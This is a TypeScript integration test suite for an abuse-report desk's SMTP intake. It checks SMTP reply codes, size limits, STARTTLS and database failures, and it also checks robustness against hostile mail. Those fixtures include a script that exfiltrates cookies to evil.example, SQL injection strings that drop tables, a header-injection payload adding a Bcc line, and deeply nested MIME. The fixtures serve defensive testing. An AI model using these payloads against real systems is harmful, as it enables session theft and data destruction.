/**
 * The SMTP door, over real SMTP against a real database: 250 only once stored, 550 for an address that is
 * no brand's, 552 over the size limit, 451 when the database fails, STARTTLS with a certificate, and hostile
 * messages that are stored and end in parsed or triage while the desk stays up.
 */
import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { mkdtempSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { after, before, test } from "node:test";
import { sql } from "kysely";
import nodemailer from "nodemailer";
import { startSmtp } from "../src/intake/smtp.ts";
import { json, startTestDesk, type TestDesk, waitFor } from "./helpers.ts";

let t: TestDesk;
before(async () => {
  t = await startTestDesk({ demo: true });
});
after(() => t.stop());

interface Sent {
  response: string;
}

async function sendRaw(
  raw: string | Buffer,
  opts: { port?: number; to?: string[]; tls?: "require" | "ignore" } = {},
): Promise<Sent> {
  const transport = nodemailer.createTransport({
    host: "127.0.0.1",
    port: opts.port ?? t.smtpPort,
    secure: false,
    ignoreTLS: opts.tls !== "require",
    requireTLS: opts.tls === "require",
    tls: { rejectUnauthorized: false },
  });
  try {
    return (await transport.sendMail({
      envelope: { from: "reporter@example.org", to: opts.to ?? ["abuse@x2com.nl"] },
      raw,
    })) as Sent;
  } finally {
    transport.close();
  }
}

const reportIdOf = (s: Sent) => Number(/stored as report (\d+)/.exec(s.response)?.[1]);

async function processed(id: number) {
  return waitFor(
    async () => {
      const r = await t.desk.conn.db
        .selectFrom("reports")
        .selectAll()
        .where("id", "=", id)
        .executeTakeFirst();
      return r && r.state !== "processing" ? r : undefined;
    },
    15_000,
    `report ${id} to be processed`,
  );
}

test("a mail to a brand's abuse address is answered 250 once stored, then a worker parses it", async () => {
  const raw = `From: Reporter <reporter@example.org>\r\nTo: abuse@x2com.nl\r\nSubject: Phishing on 192.0.2.10\r\nMessage-ID: <smtp-1@example.org>\r\n\r\nPhishing page at http://bank-login.example/ hosted on 192.0.2.10\r\n`;
  const sent = await sendRaw(raw, { to: ["abuse@x2com.nl", "abuse@extin.eu"] });
  assert.match(sent.response, /^250 /);
  const id = reportIdOf(sent);
  const r = await processed(id);
  assert.equal(r.channel, "smtp");
  assert.equal(r.brand_id, "x2com-nl", "the first recipient's brand");
  assert.deepEqual(r.rcpt_to, ["abuse@x2com.nl", "abuse@extin.eu"]);
  assert.equal(r.mail_from, "reporter@example.org");
  assert.equal(r.message_id, "smtp-1@example.org");
  assert.equal(r.state, "parsed");
  assert.equal(Buffer.from(r.raw).toString(), raw, "stored byte for byte");
  const api = await json(await t.api("agent", `/api/v1/reports/${id}`));
  assert.ok(api.events.length >= 1);
  assert.equal(api.events[0].brand, "x2com-nl");

  // Sent again (an MTA retry after a lost 250): acknowledged, but one report.
  const again = await sendRaw(raw);
  assert.equal(reportIdOf(again), id);
  assert.match(again.response, /already received/);
});

test("an address that is no brand's abuse address is refused with 550 at RCPT TO", async () => {
  await assert.rejects(
    sendRaw("Subject: x\r\n\r\nx\r\n", { to: ["postmaster@elsewhere.example"] }),
    (err: { responseCode?: number; response?: string }) =>
      err.responseCode === 550 && /not an abuse address/.test(err.response ?? ""),
  );
});

function bigMail(bytes: number): Buffer {
  const head = Buffer.from(
    'From: r@example.org\r\nSubject: big evidence\r\nContent-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nspam from 192.0.2.44, evidence attached\r\n--b\r\nContent-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\n\r\n',
  );
  const line = `${"QUJD".repeat(19)}\r\n`; // 76 base64 characters per line
  const body = Buffer.from(line.repeat(Math.ceil(bytes / line.length)));
  return Buffer.concat([head, body, Buffer.from("--b--\r\n")]);
}

test("a 30 MB message is refused with 552 at the default 25 MB limit, and stored under a raised limit", async () => {
  const mail = bigMail(30 * 1024 * 1024);
  await assert.rejects(sendRaw(mail), (err: { responseCode?: number; response?: string }) => {
    assert.equal(err.responseCode, 552, err.response);
    assert.match(err.response ?? "", /too big.*limit is 25 MB/);
    return true;
  });
  const services = t.desk.services;
  const raised = await startSmtp({
    ...services,
    config: { ...services.config, smtp: { host: "127.0.0.1", port: 0 }, smtpMaxBytes: 40 * 1024 * 1024 },
  });
  try {
    const sent = await sendRaw(mail, { port: raised.address.port });
    const id = reportIdOf(sent);
    const row = await t.desk.conn.db
      .selectFrom("reports")
      .select(["size", "sha256"])
      .where("id", "=", id)
      .executeTakeFirstOrThrow();
    assert.equal(row.size, mail.length);
    await processed(id);
  } finally {
    await raised.close();
  }
  const health = await fetch(`${t.baseUrl}/healthz`);
  assert.equal(health.status, 200);
});

test("when the database cannot store the message the answer is 451, never 250", async () => {
  const db = t.desk.conn.db;
  await sql`create function refuse_marked() returns trigger language plpgsql as $$
    begin if new.subject like '%REFUSE-ME%' then raise exception 'disk full (simulated)'; end if; return new; end $$`.execute(
    db,
  );
  await sql`create trigger refuse_marked before insert on reports for each row execute function refuse_marked()`.execute(
    db,
  );
  try {
    await assert.rejects(
      sendRaw("From: r@example.org\r\nSubject: REFUSE-ME\r\n\r\nspam from 192.0.2.5\r\n"),
      (err: { responseCode?: number }) => err.responseCode === 451,
    );
  } finally {
    await sql`drop trigger refuse_marked on reports`.execute(db);
    await sql`drop function refuse_marked()`.execute(db);
  }
  const n = await db.selectFrom("reports").select("id").where("subject", "like", "%REFUSE-ME%").execute();
  assert.equal(n.length, 0);
});

test("STARTTLS is offered when a certificate is configured, and not without one", async (ctx) => {
  const dir = mkdtempSync(path.join(tmpdir(), "abusedesk-tls-"));
  const key = path.join(dir, "key.pem");
  const cert = path.join(dir, "cert.pem");
  try {
    execFileSync(
      "openssl",
      [
        "req",
        "-x509",
        "-newkey",
        "rsa:2048",
        "-nodes",
        "-keyout",
        key,
        "-out",
        cert,
        "-days",
        "1",
        "-subj",
        "/CN=localhost",
      ],
      { stdio: "ignore" },
    );
  } catch {
    ctx.skip("openssl is not installed");
    return;
  }
  const services = t.desk.services;
  const tls = await startSmtp(
    { ...services, config: { ...services.config, smtp: { host: "127.0.0.1", port: 0 } } },
    { tls: { key, cert } },
  );
  try {
    const sent = await sendRaw("From: r@example.org\r\nSubject: over tls\r\n\r\nspam from 192.0.2.6\r\n", {
      port: tls.address.port,
      tls: "require",
    });
    assert.match(sent.response, /^250 /);
  } finally {
    await tls.close();
  }
  await assert.rejects(sendRaw("Subject: x\r\n\r\nx\r\n", { tls: "require" }), /STARTTLS/);
});

/** Hostile messages: each is acknowledged (it is stored), then ends in parsed or triage. */
const nested = (() => {
  let body = "spam from 192.0.2.7\r\n";
  for (let i = 0; i < 400; i++) {
    body = `--n${i}\r\nContent-Type: multipart/mixed; boundary="n${i + 1}"\r\n\r\n${body}\r\n--n${i}--\r\n`;
  }
  return `From: r@example.org\r\nSubject: nested\r\nContent-Type: multipart/mixed; boundary="n0"\r\n\r\n${body}`;
})();

const HOSTILE: [string, string | Buffer][] = [
  [
    "malformed MIME",
    'From: r@example.org\r\n: no name\r\n\x01garbage\r\nSubject: phishing\r\nContent-Type: multipart/mixed; boundary="zz"\r\n\r\n--zz\r\nContent-Type: text/plain\r\n\r\nphishing at http://bad-bank.example/login\r\n--zz\r\ntruncated part, no end boundary\r\n',
  ],
  [
    "missing boundary",
    "From: r@example.org\r\nSubject: malware\r\nContent-Type: multipart/mixed\r\n\r\n--x\r\nContent-Type: text/plain\r\n\r\nmalware at http://drop.bad-host.example/a.exe\r\n--x--\r\n",
  ],
  [
    "wrong charset and undeclared 8-bit",
    Buffer.concat([
      Buffer.from("From: =?x-bogus?q?J=E9r=F4me?= <j@example.org>\r\nSubject: Caf"),
      Buffer.from([0xe9, 0xff]),
      Buffer.from(
        " phishing\r\nContent-Type: text/plain; charset=x-bogus-8\r\n\r\nPhishing op http://bank-inlog.example/ ",
      ),
      Buffer.from([0xe9, 0xe8, 0xff, 0x80]),
      Buffer.from("\r\n"),
    ]),
  ],
  ["deeply nested multiparts", nested],
  [
    "NUL bytes",
    "From: r@example.org\r\nSubject: nul\0bytes\r\nMessage-ID: <nul\0id@example.org>\r\n\r\nspam from 192.0.2.8 \0\0\0 http://nul\0.example/\r\n",
  ],
  [
    "header injection",
    "From: r@example.org\r\nSubject: =?utf-8?q?hello=0D=0ABcc:_victim@example.org=0D=0A=0D=0Ainjected?=\r\nMessage-ID: <inj@example.org>\r\n\r\nspam from 192.0.2.9\r\n",
  ],
  [
    "SQL-looking strings",
    "From: r@example.org\r\nSubject: '; drop table reports; --\r\nMessage-ID: <'); delete from events; --@example.org>\r\n\r\nspam from 192.0.2.11 ' or 1=1 --\r\n",
  ],
  [
    "HTML with scripts",
    "From: r@example.org\r\nSubject: html\r\nContent-Type: text/html\r\n\r\n<script>fetch('http://evil.example/'+document.cookie)</script><p>phishing at http://phish.example/ on 192.0.2.12</p>\r\n",
  ],
];

for (const [name, raw] of HOSTILE) {
  test(`hostile mail over SMTP: ${name} is stored and ends in parsed or triage`, async () => {
    const sent = await sendRaw(raw);
    const id = reportIdOf(sent);
    assert.ok(id > 0, sent.response);
    const r = await processed(id);
    assert.ok(["parsed", "triage"].includes(r.state), `${r.state}: ${r.last_error}`);
    assert.equal(
      Buffer.compare(Buffer.from(r.raw), Buffer.isBuffer(raw) ? raw : Buffer.from(raw, "latin1")),
      0,
    );
    assert.ok(!/[\r\n\0]/.test(r.subject ?? ""), `subject is one line: ${JSON.stringify(r.subject)}`);
    if (r.state === "triage") assert.ok((r.triage_reason ?? "").length > 5);
    const api = await t.api("agent", `/api/v1/reports/${id}`);
    assert.equal(api.status, 200);
  });
}

test("after the hostile mails the desk is up and its tables are intact", async () => {
  assert.equal((await fetch(`${t.baseUrl}/healthz`)).status, 200);
  const n = await t.desk.conn.db
    .selectFrom("reports")
    .select((eb) => eb.fn.countAll<number>().as("n"))
    .executeTakeFirstOrThrow();
  assert.ok(Number(n.n) >= HOSTILE.length);
});
